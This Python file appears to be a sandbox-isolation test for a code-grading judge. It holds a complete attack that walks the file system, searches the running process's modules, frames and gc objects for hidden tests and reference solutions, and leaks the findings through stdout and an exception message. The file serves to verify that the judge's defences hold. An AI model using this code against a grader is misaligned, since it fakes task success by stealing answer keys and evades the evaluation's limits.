# expect: wrong_answer
# needs: mount|landlock
# modes: submit, run
"""Attack: read the hidden tests and the reference by path and smuggle them into the learner's report.

Paths come from PYTHONPATH, from the judge's own modules' __file__, from the working folder's
parents and from a bounded walk of "/". This process is searched too (sys.modules, every thread's
frames, gc.get_objects()). What is found goes into the message of an exception raised by
rms_norm (a public case shows its first line) and onto stdout (shown for "run").
Stopped by: a mount namespace that hides problems/ (or a Landlock read allowlist)."""

import gc
import inspect
import glob
import os
import re
import sys
import time
import types

import torch
from torch import Tensor

# ---------------------------------------------------------------- the search

def _roots():
    roots = set()
    for part in os.environ.get("PYTHONPATH", "").split(os.pathsep):
        if part:
            roots.add(part)
    for name in ("judge", "sandbox", "judge.wire.channel", "probes"):
        module = sys.modules.get(name)
        path = getattr(module, "__file__", None)
        if path:
            here = os.path.dirname(os.path.abspath(path))
            for _ in range(4):
                roots.add(here)
                here = os.path.dirname(here)
    here = os.getcwd()
    for _ in range(4):
        roots.add(here)
        here = os.path.dirname(here)
    roots.update(["/work/main", "/work", "/app", "/srv", "/opt", "/root", "/home"])
    return roots


def _candidates():
    found = set()
    for root in _roots():
        for pattern in ("problems/100-*/tests/test_hidden.py", "*/tests/test_hidden.py",
                        "problems/100-*/solutions/reference.py", "*/solutions/reference.py"):
            found.update(glob.glob(os.path.join(root, pattern)))
    deadline = time.monotonic() + 4.0  # a bounded walk of the whole file system
    for top, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr", "/lib", "/var/lib")]
        for name in files:
            if name in ("test_hidden.py", "reference.py"):
                found.add(os.path.join(top, name))
    return sorted(found, key=lambda p: ("100-" not in p, p))


def _read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as fh:
            return fh.read()
    except OSError:
        return ""


def _refusable(listing):
    """What `listing` returns, or nothing where the judge's worker refuses it."""
    try:
        return list(listing())
    except PermissionError:
        return []


def _in_process():
    """Anything secret-looking in this process: modules, functions, frames."""
    hits = []
    for name in list(sys.modules):
        if name.rsplit(".", 1)[-1] in ("test_hidden", "test_public", "conftest", "reference"):
            hits.append("module:" + name)
    frames = list(_refusable(lambda: sys._current_frames().values()))
    try:
        frames += [info.frame for info in inspect.stack(0)]
    except Exception:  # noqa: BLE001
        pass
    for frame in frames:
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, str) and ("def test_" in value or "register_autograd" in value):
                    hits.append("frame-str:" + value[:200])
            frame = frame.f_back
    for obj in _refusable(gc.get_objects):
        if isinstance(obj, types.FunctionType):
            filename = obj.__code__.co_filename or ""
            if "hidden" in filename or "reference" in filename:
                hits.append("function:" + obj.__name__)
    return hits


def _search():
    names, lines = [], []
    for path in _candidates():
        text = _read(path)
        if not text:
            continue
        names += re.findall(r"def (test_\w+)", text)
        lines += [line.strip() for line in text.splitlines() if "grad_x" in line or "x_hat" in line]
    parts = []
    if names:
        parts.append("names=" + ",".join(dict.fromkeys(names)))
    if lines:
        parts.append("lines=" + " | ".join(dict.fromkeys(lines)))
    parts += _in_process()
    return " ".join(" ; ".join(parts).split())  # one line: only a first line reaches a message


LEAK = _search()
print("LEAK " + LEAK, flush=True)


@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    raise RuntimeError("LEAK " + (LEAK or "nothing found"))


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
